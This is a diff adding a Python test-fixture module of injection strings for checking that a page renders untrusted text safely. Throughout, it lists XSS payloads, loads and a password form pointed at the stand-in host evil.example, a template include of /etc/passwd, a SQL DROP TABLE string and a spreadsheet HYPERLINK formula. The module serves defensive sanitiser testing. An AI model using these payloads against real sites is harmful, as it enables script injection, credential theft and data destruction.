@@ -1,0 +1,71 @@
+"""Text that data may hold and that a page must show, or drop, without obeying it."""
+
+from __future__ import annotations
+
+HTML = (
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example></sCrIpT>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)><script>alert(1)</script></svg>",
+    '<svg><animate attributeName=href values="javascript:alert(1)"/></svg>',
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href=" jav\tascript:alert(1)">x</a>',
+    '<a href="JaVaScRiPt:alert(1)" target=_top>x</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    '<a href="&#106;avascript:alert(1)">x</a>',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+    '<base href="https://evil.example/">',
+    '<link rel=stylesheet href="https://evil.example/x.css">',
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<style>body{background:url(https://evil.example/x)}</style>",
+    '<p style="background:url(https://evil.example/x)">x</p>',
+    '<p style="position:fixed;inset:0">over everything</p>',
+    '<iframe src="https://evil.example"></iframe>',
+    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
+    '<object data="https://evil.example"></object><embed src="https://evil.example">',
+    '<form action="https://evil.example"><input name=password autofocus></form>',
+    "<input onfocus=alert(1) autofocus>",
+    '<img src="https://evil.example/pixel.png">',
+    '<img srcset="https://evil.example/pixel.png 1x" src="data:image/png;base64,">',
+    '<img src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0Pg==">',
+    '<video src="https://evil.example/x" autoplay></video>',
+    '<audio src="https://evil.example/x" autoplay></audio>',
+    '<table background="https://evil.example/x"><tr><td>x</td></tr></table>',
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "</table></div></main></body><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    "<details open ontoggle=alert(1)>x</details>",
+    '<div id="content" class="x" onclick=alert(1)>x</div>',
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<template><script>alert(1)</script></template>",
+    "<dialog open onclose=alert(1)>x</dialog>",
+    "<plaintext>x",
+    "<!--<img src=x onerror=alert(1)>-->",
+    "<!--><script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+)
+"""Fragments of HTML."""
+
+TEXT = (
+    '" onmouseover="alert(1)" x="',
+    "' onfocus='alert(1)' autofocus='",
+    "[x](javascript:alert(1))",
+    "![x](https://evil.example/pixel.png)",
+    "<https://evil.example>",
+    "{{ 7 * 7 }} {% include '/etc/passwd' %} ${7*7}",
+    "{path} {0} %s %(x)s",
+    '=HYPERLINK("https://evil.example","x")',
+    "\u202eevil\u202c \u2066x\u2069 \ufeff\u200b",
+    "a\x00b\x07c\x1b[31md",
+    "Å̷̢͓ ﷽ 😈 \ud7ff",
+    "-- ' OR 1=1; DROP TABLE orders",
+    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &#0;",
+    "x" * 5_000,
+    "слово " * 400,
+    "]]> --> */ </script> </style> </textarea>",
+)
+"""Plain texts that other readers than HTML take for orders, or that break a layout."""
+
+EVERY = HTML + TEXT
